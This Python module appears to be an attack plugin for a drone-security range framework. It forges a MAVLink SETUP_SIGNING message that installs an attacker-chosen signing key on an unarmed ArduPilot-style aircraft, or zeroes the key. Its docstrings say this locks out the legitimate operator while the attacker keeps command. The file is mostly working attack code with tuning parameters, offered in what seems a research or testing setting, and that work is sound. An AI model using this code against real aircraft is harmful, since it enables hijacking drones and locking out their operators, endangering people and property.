"""Signing key of the attacker's own, set by SETUP_SIGNING on a link that is not signed."""

from __future__ import annotations

from typing import Literal

import skyrange.plugin as sky
from skyrange.codec.mavlink import Message
from skyrange.codec.mavlink import dialect as mav
from skyrange.codec.mavlink.signing import KEY_BYTES, UNIT_NS, secret_from_passphrase, signing_timestamp


@sky.attack(
    "signing.setup_key",
    technique="T0892",
    persists="flight",
    effect="the aircraft refuses all that its operator sends, and obeys who has the attacker's key; telemetry goes on",
    knowledge="the system id of the aircraft, from any frame",
    budget="a frame of 54 to 67 bytes, before the aircraft is armed",
    content="the key that the aircraft has already",
    placement="the same frame to another aircraft, or after it is armed: it refuses with a text",
    realism={
        "rules": "cited: ArduPilot's GCS_Signing.cpp (`handle_setup_signing`); an armed aircraft refuses since pull "
        "request 10311, which answers issue 10298",
        "recovery": "assumed: none in flight; the key outlasts a reboot, and an operator removes it by USB",
    },
)
class SetupKey(sky.Injection):
    """Gives an aircraft a signing key of the attacker's, or takes the one that it has.

    An autopilot without a key takes one from anybody, on any link, and nothing acknowledges it. From then on it signs
    with that key and refuses frames without it. `signing.stolen_key` with the same passphrase commands it.
    """

    passphrase: str = sky.param("Passphrase of the attacker's key.", default="attacker", min_length=1)
    form: Literal["set", "remove"] = sky.param(
        "set: a key of the attacker's; remove: zeros, which end signing where the aircraft accepts unsigned frames.",
        default="set",
    )
    ahead_s: sky.Number = sky.param(
        "How far the timestamp of the key is ahead of UTC, in seconds. The aircraft refuses new senders that are more "
        "than a minute behind: far ahead, nobody commands it any more, not even with the key.",
        default=0.0,
        ge=0,
        le=1e13,
    )
    every_s: sky.Number = sky.param("Time between two frames, in seconds.", default=1.0, ge=0.02, le=3600)
    times: sky.Whole = sky.param("Frames that are sent; 0 for no end.", default=1, ge=0)
    first_timestamp: int
    """Timestamp of signatures at time 0."""

    def prepare(self, context: sky.AttackContext) -> None:
        self.first_timestamp = signing_timestamp(context.epoch.unix_ns)

    def orders(self, now: sky.Time) -> list[Message]:
        secret, timestamp = bytes(KEY_BYTES), 0
        if self.form == "set":
            secret = secret_from_passphrase(self.passphrase)
            timestamp = self.first_timestamp + (now + sky.from_seconds(self.ahead_s)) // UNIT_NS
        return [mav.MAVLink_setup_signing_message(self.target, 1, list(secret), timestamp)]
